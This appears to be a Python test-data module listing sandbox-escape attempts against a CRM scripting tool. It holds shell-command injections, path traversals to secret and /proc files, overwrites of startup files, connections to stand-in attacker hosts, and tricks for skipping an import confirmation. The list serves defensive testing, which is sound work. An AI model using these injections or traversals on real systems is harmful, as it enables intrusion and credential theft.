"""What a script may try: (kind, name, lines, options of the process).

In the lines: OUT a folder the script may not read, WORK its own folder, ADDRESS a sandbox,
EVIL a server elsewhere. In OUT and WORK lies what `abuse.layout` puts there.
"""

STAGE = "connect ADDRESS\nselect users where crm.status = active\nrole Employee\nassign Website\n"

PROCESS = [
    ("!", "!touch OUT/marker"), ("! with a blank", "! sh OUT/evil.sh"),
    ("! after a command", "status; !sh OUT/evil.sh"), (r"\!", r"\! sh OUT/evil.sh"),
    ("shell", "shell sh OUT/evil.sh"), ("system", "system 'sh OUT/evil.sh'"),
    ("exec", "exec OUT/evil.sh"), ("a path as a command", "OUT/evil.sh"), ("a dot", ". OUT/evil.sh"),
    ("pipe", "connect ADDRESS; list users | sh OUT/evil.sh"),
    ("pipe without blanks", "connect ADDRESS; list users|OUT/evil.sh"),
    ("redirect into a program", "connect ADDRESS; list users > |OUT/evil.sh"),
    ("process substitution", "connect ADDRESS; list users > >(sh OUT/evil.sh)"),
    ("input substitution", "connect ADDRESS; select from <(sh OUT/evil.sh)"),
    ("backquotes", "echo `sh OUT/evil.sh`"), ("$( )", "echo $(sh OUT/evil.sh)"),
    ("backquotes in a variable", "let x=`sh OUT/evil.sh`\necho $x"),
    ("$( ) in quotes", 'echo "$(sh OUT/evil.sh)"'), ("${ } with a command", "echo ${!sh}"),
    ("a variable as a command", 'let x="!sh OUT/evil.sh"\n$x'),
    ("a command in a variable", "let x='status; !sh OUT/evil.sh'\n$x"),
    ("&", "status & sh OUT/evil.sh"), ("&&", "status && sh OUT/evil.sh"),
    ("edit", "edit"), ("edit N", "history\nedit 1"), ("watch", "watch 2 '!sh OUT/evil.sh'"),
    ("watch an editor", "watch 2 'edit'"), ("time", "time '!sh OUT/evil.sh'"),
    ("time an editor", "time 'edit'"), ("explain", "explain '!sh OUT/evil.sh'"),
    ("alias", "alias x='!sh OUT/evil.sh'\nx"), ("alias of a command", "alias list='!sh OUT/evil.sh'"),
    ("set shell", "set shell=on\n!sh OUT/evil.sh"), ("set editor", "set editor=OUT/evil.sh\nedit"),
    ("set pager", "set pager=OUT/evil.sh\nconnect ADDRESS\nlist users"),
    ("let EDITOR", "let EDITOR=OUT/evil.sh VISUAL=OUT/evil.sh PAGER=OUT/evil.sh\nedit"),
    ("credential-helper", "set credential-helper=OUT/evil.sh\nlogins"),
    ("browser", "login x --dc ADDRESS --flow browser --port 8099 --yes"),
    ("help of a path", "help ../../OUT/evil.sh"), ("a NUL", "status\0; !sh OUT/evil.sh"),
    ("a carriage return", "status\r!sh OUT/evil.sh\r"), ("U+2028", "status\u2028!sh OUT/evil.sh"),
    ("a #! line", "#!OUT/evil.sh\nstatus"), ("quoted newline", 'echo "a\n!sh OUT/evil.sh"'),
    ("a line that goes on", "status \\\n!sh OUT/evil.sh"), ("a here list", "select from <<END\n!sh OUT/evil.sh\nEND"),
]

READ = [
    (f"{verb} {name}", f"connect ADDRESS\n{line.replace('FILE', path)}")
    for verb, line in [
        ("from", "select from FILE"), ("source", "source FILE"), ("apply", "apply FILE"),
        ("drop", "drop from FILE"), ("count", "if count from FILE > 0\nend"),
        ("in a filter", "list users where email in (from FILE)")]
    for name, path in [
        ("absolute", "OUT/secret.csv"), ("by ..", "../outside/secret.csv"),
        ("a link to a file", "link.csv"), ("a folder's link", "linkdir/secret.csv"),
        ("~", "~/secret.csv"), ("a fifo", "fifo"), ("/dev/stdin", "/dev/stdin"),
        ("/proc", "/proc/self/environ"), ("in quotes", '"sub/../../outside/secret.csv"'),
        ("a variable", "$far")]
] + [
    ("echo < file", "echo < OUT/secret.csv"), ("let from a file", "let x=<OUT/secret.csv\necho $x"),
    ("an environment variable", "echo $HOME $CANARY_ENV ${CANARY_ENV}"),
    ("source of a sourced script", "source sub/far.crmsh"),
    ("source nine deep", "source again.crmsh"),
    ("a hard link", "connect ADDRESS\nselect from hard.csv where"),
    ("login --secrets", "login x --dc ADDRESS --secrets OUT/secret.csv --yes"),
    ("time of from", "connect ADDRESS\ntime 'select from OUT/secret.csv'"),
    ("watch of from", "connect ADDRESS\nwatch 2 'list from OUT/secret.csv'"),
    ("explain of from", "connect ADDRESS\nexplain 'select from OUT/secret.csv'"),
]

WRITE = [
    (f"{verb} {name}", f"{STAGE}{line.replace('FILE', path)}")
    for verb, line in [
        (">", "list users > FILE"), (">>", "list users >> FILE"), ("> --force", "list users --force > FILE"),
        ("save", "save FILE"), ("--html", "preview --html FILE"), ("--html --force", "preview --html FILE --force")]
    for name, path in [
        ("over a file", "victim.txt"), ("absolute", "OUT/victim.txt"), ("by ..", "../outside/new.txt"),
        ("a link", "link.txt"), ("a dangling link", "dangling.txt"), ("a folder's link", "linkdir/new.txt"),
        ("the script itself", "attack.crmsh"), ("a device", "/dev/full"), ("a fifo", "fifo"),
        ("a folder", "sub"), ("start-up file", "~/.config/crmsh/startup.crmsh"), ("/proc", "/proc/self/comm")]
] + [
    ("> in watch", "connect ADDRESS\nwatch 2 'list users > OUT/new.txt'"),
    ("> in time", "connect ADDRESS\ntime 'list users > OUT/victim.txt'"),
    ("> twice to a moved file", "connect ADDRESS\nlist users > a.txt\nlist users >> victim.txt"),
    ("> a hard link", "connect ADDRESS\nlist users --force > hard.txt"),
    ("> a variable", 'let f=../outside/new.txt\nconnect ADDRESS\nlist users > $f'),
    ("> no name", "connect ADDRESS\nlist users > ''"), ("> a NUL", "connect ADDRESS\nlist users > 'a\0b'"),
    ("set state", "set state=OUT\nconnect ADDRESS"),
]

HOST = [
    (f"connect {address}", f"connect {address}") for address in (
        "EVIL", "http://localhost.evil.example:80", "https://www.zohoapis.com", "http://0.0.0.0:80",
        "http://127.0.0.1@evil.example", "evil.example:80", "us", "file:///etc/passwd", "http://[::ffff:1.2.3.4]:80")
] + [
    ("login", "login x --dc us --yes"), ("login at a host", "login x --dc EVIL --yes"),
    ("logout", "logout x"), ("set host", "set host=EVIL\nconnect ADDRESS"),
    ("set proxy", "set proxy=EVIL\nconnect ADDRESS"),
    ("let http_proxy", "let http_proxy=EVIL HTTPS_PROXY=EVIL ALL_PROXY=EVIL\nconnect ADDRESS"),
    ("projects-host", "login x --dc ADDRESS --projects-host evil.example --yes"),
    ("fetch of an address", "connect ADDRESS\nfetch EVIL"), ("from an address", "select from EVIL"),
    ("source of an address", "source EVIL"), ("> an address", "connect ADDRESS\nlist users > EVIL/x"),
    ("doctor of a host", "doctor EVIL"), ("doctor of a data centre", "doctor us"),
]

ANSWER = [
    ("import", STAGE + "import"), ("import and the number", STAGE + "import\n25\nyes\ny\n"),
    ("import <<", STAGE + "import <<END\n25\nEND"), ("import with echo", STAGE + "echo 25\nimport\n"),
    ("import --yes --expect-people 1", STAGE + "import --yes --expect-people 1"),
    ("import --yes of another portal", STAGE + "import --yes --expect-portal 1"),
    ("import --yes of another plan", STAGE + "import --yes --expect-plan 000000000000"),
    ("set yes", "set yes=on\n" + STAGE + "import"), ("set no-input", "set no-input=off\n" + STAGE + "import"),
    ("protected", "set protected=on\n" + STAGE + "import --yes"),
    ("time import", STAGE + "time 'import'"), ("watch import", STAGE + "watch 2 'import --yes'"),
    ("explain import", STAGE + "explain 'import --yes'"), ("alias import", STAGE + "alias i='import --yes'\ni"),
    ("quoted import", STAGE + 'let x="import --yes"\n$x'), ("if import", STAGE + "if import --yes\nend"),
    ("a name that ends the line", STAGE + 'assign "Website\nimport --yes"'),
    ("an assert before", "on-error continue\n" + STAGE + "assert count staged = 0\nimport --yes"),
    ("in a branch not taken", STAGE + "if count staged = 0\nimport --yes\nend"),
    ("behind a missing end", "if count staged = 0\n" + STAGE + "import --yes"),
    ("revert", "connect ADDRESS\nrevert last"), ("abandon", "connect ADDRESS\nabandon"),
]

SECRET = [
    ("login with a file", "login x --dc ADDRESS --secrets secrets.txt --yes"),
    ("login with standard input", "login x --dc ADDRESS --secrets - --yes"),
    ("login with a list", "login x --dc ADDRESS --yes --secrets <<END\nclient-id = 1000.SANDBOX\n"
     "client-secret = sandbox\ncode = 1000.x\nEND"),
    ("login with words", "login x --dc ADDRESS --client-secret sandbox --yes"),
    ("login in time", "time 'login x --dc ADDRESS --secrets secrets.txt --yes'"),
    ("login by alias", "alias l='login x --dc ADDRESS --secrets secrets.txt --yes'\nl"),
    ("login in source", "source login.crmsh"), ("set a token", "set token=1000.abc\nconnect ADDRESS"),
    ("set a secret", "set client-secret=sandbox\nlogins"),
    ("an address with a password", "connect http://user:canarypassword@127.0.0.1:1"),
]

KINDS = {"run a process": PROCESS, "read a file": READ, "write over a file": WRITE, "reach a host": HOST,
         "answer a question": ANSWER, "hold a secret": SECRET}
